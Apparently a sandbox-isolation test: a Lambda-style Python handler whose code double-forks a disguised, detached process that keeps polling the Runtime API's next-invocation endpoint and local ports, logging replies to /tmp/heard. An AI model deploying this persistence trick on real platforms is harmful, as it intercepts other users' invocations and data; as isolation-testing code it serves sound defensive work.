"""Leaves a process that goes on after the answer: it asks the store, or the Runtime API for the next invocation."""

import contextlib
import os
import socket
from typing import Any

import attacking


def meddle(ports: tuple[int, ...]) -> None:
    """Ask there, again and again; answers that it got go to a file."""
    os.setsid()
    attacking.libc.prctl(15, f"left-{ports[0]}".encode())
    base = "/2018-06-01/runtime/invocation"
    tries = {
        9001: f"GET {base}/next HTTP/1.1\r\n\r\n",
        9002: "GET /left-behind HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        9003: "GET /left-behind HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    }
    while True:
        for port, text in ((port, tries[port]) for port in ports):
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as line:
                line.settimeout(0.2)
                line.sendall(text.encode())
                with open("/tmp/heard", "a") as heard:
                    heard.write(line.recv(4096).decode("latin-1").split("\r\n", 1)[0] + "\n")


def handler(event: Any, context: Any) -> Any:
    """event: the ports where the process asks. Without: what it heard so far, by kind."""
    if event:
        attacking.fork(lambda: attacking.fork(lambda: meddle(event)) and None)
    return sorted(set(attacking.read("/tmp/heard").split("\n")) - {""})
